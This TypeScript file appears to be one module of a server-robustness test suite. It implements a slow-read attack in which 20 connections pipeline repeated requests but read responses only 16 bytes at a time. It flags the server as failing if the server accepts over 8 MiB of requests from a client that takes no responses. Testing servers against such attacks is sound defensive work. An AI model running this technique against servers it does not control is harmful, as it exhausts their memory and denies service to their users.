/** Slow read: whatever is asked for is hardly taken, so it stays in the memory of the server, or of its kernel. */

import type { Attack } from './shared/attack.ts';
import { fell } from './shared/attack.ts';
import { Client } from './shared/client.ts';
import { hold } from './shared/hold.ts';

/** What a client takes each time: the receive buffer of its kernel does not get empty by that. */
const SIP_BYTES = 16;
/** Requests for which nobody takes the responses: a server that reads more than that keeps them in its memory. */
const REQUEST_BYTES_MAX = 8 * 1024 * 1024;

export default {
  does: 'asks again and again, and takes 16 bytes of the responses now and then',
  rules: ['8.2/slow-reader', '8.2/deaf-and-talking'],
  connections: 20,
  seconds: 90,
  run: async (target) => {
    const requests = `${target.head()}\r\n`.repeat(100);
    const buffer = Buffer.alloc(SIP_BYTES);
    const open = async (): Promise<Client> => {
      if (target.options.tls) return pausedOnceOpen(await target.open({}, false));
      // Node reads into this buffer and no further, and pauses when it is told `false`.
      return await target.connect({ onread: { buffer, callback: () => false } }, false);
    };
    const greedy: Client[] = [];
    const verdict = await hold(target, {
      what: 'clients that hardly read',
      open,
      goOn: (client) => {
        if (!target.options.tls) client.socket.resume();
        // It stops by itself when the server has stopped reading.
        for (let parts = 0; parts < 100 && client.socket.writableLength === 0; parts++) client.write(requests);
        if (client.socket.bytesWritten > REQUEST_BYTES_MAX) greedy.push(client);
      },
    });
    if (greedy.length === 0) return verdict;
    return fell(`it has read ${REQUEST_BYTES_MAX / 1024 / 1024} MiB of requests from a client that takes no responses: they must be in its memory`);
  },
} satisfies Attack;

function pausedOnceOpen(client: Client): Client {
  client.socket.pause();
  return client;
}
